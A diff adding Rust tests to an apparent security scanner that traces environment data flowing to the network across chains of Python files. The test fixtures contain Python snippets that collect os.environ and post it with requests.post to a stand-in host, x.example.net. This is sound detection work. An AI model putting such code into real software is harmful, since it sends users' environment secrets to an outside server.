@@ -95,6 +95,77 @@ fn data_of_another_file_may_go_wherever_data_of_its_own_may() {
     }
 }
 
+/// A package in which `count` files hand on what the one before has, by a function that is `hand(n)` in the file of
+/// number `n`.
+fn chain(first: &str, count: usize, hand: impl Fn(usize) -> String, last: &str) -> Vec<(String, String)> {
+    let file = |number: usize, text: String| (format!("p/f{number}.py"), text);
+    let mut files = vec![("p/__init__.py".to_owned(), String::new()), file(0, first.to_owned())];
+    files.extend(
+        (1..=count).map(|number| file(number, format!("from .f{} import f as g\n{}", number - 1, hand(number)))),
+    );
+    files.push(("p/last.py".to_owned(), format!("from .f{count} import f\n{last}")));
+    files
+}
+
+fn ways_of_chain(files: &[(String, String)], rule: &str) -> Vec<Vec<String>> {
+    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    ways(&files, rule)
+}
+
+#[test]
+fn data_is_followed_through_any_file_that_hands_it_on() {
+    let rule = "AL-FLOW-environment-to-network";
+    let gather = "import os\ndef f():\n    held = []\n    held.append(dict(os.environ))\n    return held\n";
+    let send = "import requests\ndef f(body):\n    requests.post('https://x.example.net', data=body)\n";
+    let (sends, gathers) =
+        ("import requests\nrequests.post('https://x.example.net', data=f())\n", "import os\nf(dict(os.environ))\n");
+    for count in [1, 2, 12] {
+        for hand in ["def f(): return [g()]\n", "from . import f0 as h\ndef f():\n    x = g()\n    return x\n"] {
+            let found = ways_of_chain(&chain(gather, count, |_| hand.to_owned(), sends), rule);
+            assert_eq!(found.len(), 1, "{count}: {hand}");
+        }
+        for hand in ["def f(body): g([body])\n", "def f(body):\n    x = {'x': body}\n    return g(body=x)\n"] {
+            let found = ways_of_chain(&chain(send, count, |_| hand.to_owned(), gathers), rule);
+            assert_eq!(found.len(), 1, "{count}: {hand}");
+            assert_eq!(found[0].iter().filter(|step| step.ends_with("handed to another file")).count(), count + 1);
+        }
+    }
+    let steps = ways_of_chain(&chain(send, 1, |_| "def f(body): g(body)\n".to_owned(), gathers), rule);
+    assert_eq!(
+        steps,
+        [[
+            "p/last.py:3 os.environ gives the environment",
+            "p/last.py:3 handed to another file",
+            "p/f1.py:2 handed to another file",
+            "p/f0.py:3 requests.post sends it away",
+        ]]
+    );
+}
+
+#[test]
+fn files_that_hand_data_to_one_another_in_a_circle_end() {
+    let one = "import os\nfrom .b import g\ndef f(x): return [g(x), os.environ]\n";
+    let other = "from .a import f\nimport requests\ndef g(x):\n    requests.post('https://x.example.net', data=x)\n    return [f(x)]\n";
+    let last = "from .b import g\ng(g(1))\n";
+    let files = [("p/__init__.py", ""), ("p/a.py", one), ("p/b.py", other), ("p/c.py", last)];
+    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1);
+}
+
+#[test]
+fn data_that_is_handed_on_through_more_than_is_looked_at_is_told() {
+    let send = "import requests\ndef f(body):\n    requests.post('https://x.example.net', data=body)\n";
+    let hand = |_| format!("def f(body): g(body)\n{}", "x = 'a text of no meaning'\n".repeat(4000));
+    let found = |count| {
+        let files = chain(send, count, hand, "import os\nf(dict(os.environ))\n");
+        let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+        let found = findings(&files).into_iter().map(|finding| finding.rule);
+        let is_told = |rule: &String| rule == "AL-FLOW-environment-to-network" || rule == "AL-CODE-too-complex";
+        found.filter(is_told).collect::<Vec<_>>()
+    };
+    assert_eq!(found(3), ["AL-FLOW-environment-to-network"]);
+    assert_eq!(found(8), ["AL-CODE-too-complex"]);
+}
+
 #[test]
 fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
     let client =
